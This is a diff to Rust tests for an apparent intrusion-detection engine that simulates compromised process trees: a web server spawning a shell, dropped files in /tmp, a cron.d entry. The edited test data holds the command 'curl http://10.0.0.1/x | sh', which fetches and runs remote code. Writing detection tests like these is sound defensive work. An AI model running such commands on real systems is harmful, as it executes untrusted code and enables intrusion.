@@ -270,7 +270,7 @@ fn repeated_findings_are_folded() {
     let service = host.spawn(init, "/usr/sbin/php-fpm8.2", &["php-fpm"]);
     for _ in 0..50 {
         host.wait(seconds(400));
-        let shell = host.spawn(service, "/usr/bin/dash", &["sh", "-c", "curl http://10.0.0.1/x"]);
+        let shell = host.spawn(service, "/usr/bin/dash", &["sh", "-c", "curl http://10.0.0.1/x | sh"]);
         let curl = host.spawn(shell, "/usr/bin/curl", &["curl", "http://10.0.0.1/x"]);
         host.connect(curl, "10.0.0.1:80");
         host.exit(curl);
@@ -284,8 +284,7 @@ fn repeated_findings_are_folded() {
 #[test]
 fn an_incident_closes_when_its_processes_have_ended_and_nothing_new_is_found() {
     let (mut host, init) = host();
-    let login = host.spawn(init, "/usr/bin/bash", &["-bash"]);
-    let script = host.spawn_script(login, "/usr/bin/dash", "/root/install.sh");
+    let script = host.spawn_script(init, "/usr/bin/dash", "/root/install.sh");
     let dropped = dropper(&mut host, script, "/tmp/x");
     host.exit(script);
     let mut engine = Engine::new(EngineSettings::default());
@@ -310,10 +309,9 @@ fn an_incident_closes_when_its_processes_have_ended_and_nothing_new_is_found() {
 #[test]
 fn two_incidents_merge_into_one() {
     let (mut host, init) = host();
-    let login = host.spawn(init, "/usr/bin/bash", &["-bash"]);
-    let one = host.spawn_script(login, "/usr/bin/dash", "/root/one.sh");
+    let one = host.spawn_script(init, "/usr/bin/dash", "/root/one.sh");
     dropper(&mut host, one, "/tmp/one");
-    let two = host.spawn_script(login, "/usr/bin/dash", "/root/two.sh");
+    let two = host.spawn_script(init, "/usr/bin/dash", "/root/two.sh");
     dropper(&mut host, two, "/tmp/two");
     host.spawn(two, "/tmp/one", &["/tmp/one"]);
     host.create(two, "/etc/cron.d/x", 0o644);
@@ -327,7 +325,7 @@ fn two_incidents_merge_into_one() {
         "{}",
         closed[0].message
     );
-    assert_eq!(last.verdict, Verdict::Suspected);
+    assert_eq!(last.verdict, Verdict::Suspected, "{}", story(&alerts));
 }
 
 #[test]
